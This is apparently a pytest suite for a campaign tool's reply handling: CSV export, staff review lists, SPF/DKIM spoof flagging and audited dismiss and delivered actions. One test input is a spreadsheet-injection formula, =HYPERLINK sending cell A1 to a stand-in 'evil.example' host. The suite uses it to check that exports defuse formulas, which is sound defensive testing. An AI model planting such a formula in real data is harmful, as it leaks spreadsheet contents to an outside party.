"""`campaign replies export | review | parse | dismiss | delivered ...` on stored replies."""

from __future__ import annotations

import csv
import io
import re
from pathlib import Path
from typing import Any

import pytest
from audit_fixtures import audit_rows
from replies_fixtures import NOW, Seeded, parse_fields, reply_address, seed, settings_for
from sqlalchemy import Engine, select
from typer.testing import CliRunner
from web_fixtures import log_in, make_app

from sender.cli import app
from sender.cli.common import console
from sender.core.config import Settings, reset_settings
from sender.core.db import session_scope
from sender.core.errors import InvalidInput
from sender.core.models import Reply
from sender.core.vocabulary import ReplyStatus
from sender.track.inbound import parse_stored_reply

ADDRESS = re.compile(r"[\w.+-]+@[\w-]+(?:\.[\w-]+)+")
FORMULA = '=HYPERLINK("https://evil.example/?leak="&A1,"Free Jani")'


@pytest.fixture
def world(any_engine: Engine, env: pytest.MonkeyPatch) -> tuple[Engine, Settings, Seeded]:
    settings = settings_for(any_engine)
    env.setenv("DATABASE_URL", settings.database_url)
    env.setenv("SECRET_KEY", settings.secret_key)
    env.setenv("INBOUND_DOMAIN", settings.inbound_domain)
    reset_settings()
    return any_engine, settings, seed(any_engine, settings)


def receive(engine: Engine, settings: Settings, parse: bool = True, **fields: Any) -> int:
    with session_scope(engine) as session:
        reply = Reply(raw_form={"fields": parse_fields(**fields), "files": []})
        session.add(reply)
        session.flush()
        reply_id = reply.id
    if parse:
        parse_stored_reply(engine, settings, reply_id, NOW)
    return reply_id


def fill(engine: Engine, settings: Settings, seeded: Seeded) -> dict[str, int]:
    to = reply_address(seeded, "en")
    return {
        "warm": receive(engine, settings, sender="ana@example.com", to=to, text="Fuerza, Jani"),
        "formula": receive(engine, settings, sender="bob@example.org", to=to, text=FORMULA),
        "away": receive(
            engine,
            settings,
            sender="marie@example.fr",
            to=to,
            subject="Réponse automatique : absente",
            text="Je suis absente jusqu'au 4 janvier.",
        ),
        "stranger": receive(engine, settings, sender="who@elsewhere.example", to=to, text="Hello"),
    }


def test_export_leaves_out_auto_replies_and_defuses_formulas(
    world: tuple[Engine, Settings, Seeded], runner: CliRunner, tmp_path: Path
) -> None:
    engine, settings, seeded = world
    ids = fill(engine, settings, seeded)
    out = tmp_path / "jani.csv"
    result = runner.invoke(app, ["replies", "export", "--case", "jani-silva", "--out", str(out)])
    assert result.exit_code == 0, result.output
    rows = list(csv.DictReader(io.StringIO(out.read_text(encoding="utf-8"))))
    assert [int(row["reply_id"]) for row in rows] == [ids["warm"], ids["formula"]]
    assert rows[0]["message"] == "Fuerza, Jani"
    assert rows[0]["first_name"] == "Ana"
    assert rows[1]["message"] == "'" + FORMULA
    assert "absente" not in out.read_text(encoding="utf-8")
    assert "@" not in out.read_text(encoding="utf-8")  # no supporter addresses


def test_export_to_stdout_and_unknown_case(
    world: tuple[Engine, Settings, Seeded], runner: CliRunner
) -> None:
    engine, settings, seeded = world
    fill(engine, settings, seeded)
    result = runner.invoke(app, ["replies", "export", "--case", "jani-silva"])
    assert result.exit_code == 0
    assert (
        result.output.splitlines()[0] == "reply_id,received_at,language,first_name,country,message"
    )
    result = runner.invoke(app, ["replies", "export", "--case", "nobody"])
    assert result.exit_code != 0
    assert "no case with slug 'nobody'" in str(result.exception)


def test_review_lists_what_needs_a_person(
    world: tuple[Engine, Settings, Seeded], runner: CliRunner, env: pytest.MonkeyPatch
) -> None:
    engine, settings, seeded = world
    fill(engine, settings, seeded)
    env.setattr(console, "width", 250)  # the console measured the terminal at import
    result = runner.invoke(app, ["replies", "review"])
    assert result.exit_code == 0, result.output
    assert "who@elsewhere.example" in result.output
    assert "no supporter with the sender's address" in result.output
    assert "ana@example.com" in result.output  # matched: a message for staff to read
    assert "marie@example.fr" not in result.output  # an auto-reply needs nobody


def test_review_and_the_dashboard_list_the_same_replies(
    world: tuple[Engine, Settings, Seeded], runner: CliRunner, env: pytest.MonkeyPatch
) -> None:
    engine, settings, seeded = world
    fill(engine, settings, seeded)
    env.setattr(console, "width", 250)
    cli = runner.invoke(app, ["replies", "review"]).output
    staff = make_app(engine).test_client()
    assert log_in(staff) == 302
    rows = list(
        csv.DictReader(io.StringIO(staff.get("/workspace/replies/review.csv").get_data(True)))
    )
    assert {row["from_email"] for row in rows} == set(ADDRESS.findall(cli))
    assert len(rows) == 3  # all but the auto-reply


def test_parse_finishes_replies_a_dead_worker_left(
    world: tuple[Engine, Settings, Seeded], runner: CliRunner
) -> None:
    engine, settings, seeded = world
    left = receive(
        engine,
        settings,
        parse=False,
        sender="bob@example.org",
        to=reply_address(seeded, "en"),
        text="Still with you",
    )
    result = runner.invoke(app, ["replies", "parse"])
    assert result.exit_code == 0, result.output
    assert "1 replies parsed: 1 matched" in result.output
    with session_scope(engine) as session:
        assert session.scalar(select(Reply.status).where(Reply.id == left)) == ReplyStatus.MATCHED
    assert "0 replies parsed" in runner.invoke(app, ["replies", "parse"]).output


def test_review_shows_spf_and_dkim_and_marks_a_spoofed_stop(
    world: tuple[Engine, Settings, Seeded], runner: CliRunner, env: pytest.MonkeyPatch
) -> None:
    """Issue 13: staff see why a STOP was not honoured, on both lists."""
    engine, settings, seeded = world
    forged = {
        **parse_fields(sender="bob@example.org", to=reply_address(seeded, "en"), text="STOP"),
        "SPF": "fail",
        "dkim": "none",
    }
    with session_scope(engine) as session:
        reply = Reply(raw_form={"fields": forged, "files": []})
        session.add(reply)
        session.flush()
        reply_id = reply.id
    parse_stored_reply(engine, settings, reply_id, NOW)
    receive(engine, settings, sender="ana@example.com", to=reply_address(seeded, "es"), text="Hi")
    env.setattr(console, "width", 300)
    cli = runner.invoke(app, ["replies", "review"]).output
    assert "possibly spoofed" in cli and "fail (example.org)" in cli
    assert "pass (example.com)" in cli  # Ana's real reply: SPF and DKIM pass
    staff = make_app(engine).test_client()
    assert log_in(staff) == 302
    html = staff.get("/workspace/replies/review").get_data(as_text=True)
    assert html.count('data-testid="possibly-spoofed"') == 1
    assert '<dd data-testid="spf">fail (example.org)</dd>' in html
    assert '<dd data-testid="dkim">none</dd>' in html
    rows = list(
        csv.DictReader(io.StringIO(staff.get("/workspace/replies/review.csv").get_data(True)))
    )
    spoofed = next(row for row in rows if int(row["id"]) == reply_id)
    assert (spoofed["spf"], spoofed["dkim"]) == ("fail (example.org)", "none")
    assert spoofed["problem"].startswith("asks to stop; possibly spoofed")
    ana = next(row for row in rows if row["from_email"] == "ana@example.com")
    assert ana["dkim"] == "pass (example.com)"  # matched: in the CSV, not to decide


def test_decisions_from_the_shell_are_the_workspaces(
    world: tuple[Engine, Settings, Seeded], runner: CliRunner
) -> None:
    engine, settings, seeded = world
    ids = fill(engine, settings, seeded)
    dismissed = runner.invoke(app, ["replies", "dismiss", str(ids["stranger"]), "--reason", "spam"])
    assert dismissed.exit_code == 0, dismissed.output
    assert f"reply #{ids['stranger']} dismissed" in dismissed.output
    again = runner.invoke(app, ["replies", "unsubscribe", str(ids["stranger"])])
    assert isinstance(again.exception, InvalidInput) and "dismissed already" in str(again.exception)
    args = ["replies", "delivered", str(ids["warm"]), "--case", "jani-silva"]
    assert "1 messages marked delivered" in runner.invoke(app, args).output
    twice = runner.invoke(app, args)
    assert isinstance(twice.exception, InvalidInput)
    with session_scope(engine) as session:
        reply = session.get(Reply, ids["warm"])
        assert reply is not None and reply.delivered_by is not None
        assert reply.delivered_by.startswith("os:")
    outcomes = [(e.action, e.outcome) for e in audit_rows(engine, "reply")]
    assert outcomes == [
        ("reply.dismiss", "done"),
        ("reply.unsubscribe", "failed"),
        ("reply.delivered", "done"),
        ("reply.delivered", "failed"),
    ]
